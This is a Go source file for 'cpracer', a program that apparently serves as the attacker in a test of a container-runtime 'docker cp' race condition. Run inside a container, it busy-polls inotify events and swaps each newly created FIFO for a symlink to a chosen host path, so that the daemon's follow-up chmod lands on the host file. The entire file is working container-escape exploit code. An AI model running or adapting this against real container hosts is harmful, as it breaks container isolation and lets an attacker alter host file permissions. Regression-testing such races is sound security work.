// Command cpracer is the attacker of the docker cp upload race, run
// inside a container: it watches DIR with inotify and swaps every FIFO
// created there for a symlink to TARGET, a path on the host, hoping that
// pierd sets the FIFO's mode through the name after the swap.
//
//	cpracer DIR TARGET
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"unsafe"
)

func main() {
	runtime.LockOSThread()
	dir, target := os.Args[1], os.Args[2]
	if err := os.MkdirAll(dir, 0o755); err != nil {
		fail(err)
	}
	in, err := syscall.InotifyInit1(syscall.IN_CLOEXEC | syscall.IN_NONBLOCK)
	if err != nil {
		fail(err)
	}
	if _, err := syscall.InotifyAddWatch(in, dir, syscall.IN_CREATE); err != nil {
		fail(err)
	}
	if err := os.WriteFile("/ready", []byte("ready\n"), 0o644); err != nil {
		fail(err)
	}
	buf := make([]byte, 64<<10)
	swapped := 0
	_ = swapped
	for {
		// Busy polling: the window between pierd's mknod and chmod is
		// microseconds, shorter than a wake-up from a blocking read.
		n, err := syscall.Read(in, buf)
		if err == syscall.EAGAIN {
			continue
		}
		if err != nil {
			fail(err)
		}
		for off := 0; off+syscall.SizeofInotifyEvent <= n; {
			ev := (*syscall.InotifyEvent)(unsafe.Pointer(&buf[off]))
			name := strings.TrimRight(string(buf[off+syscall.SizeofInotifyEvent:off+syscall.SizeofInotifyEvent+int(ev.Len)]), "\x00")
			off += syscall.SizeofInotifyEvent + int(ev.Len)
			if strings.HasPrefix(name, "swap-") {
				continue
			}
			tmp := filepath.Join(dir, "swap-"+name)
			if os.Symlink(target, tmp) == nil && os.Rename(tmp, filepath.Join(dir, name)) == nil {
				swapped++
			}
		}
	}
}

func fail(err error) {
	fmt.Fprintln(os.Stderr, "cpracer:", err)
	os.Exit(1)
}
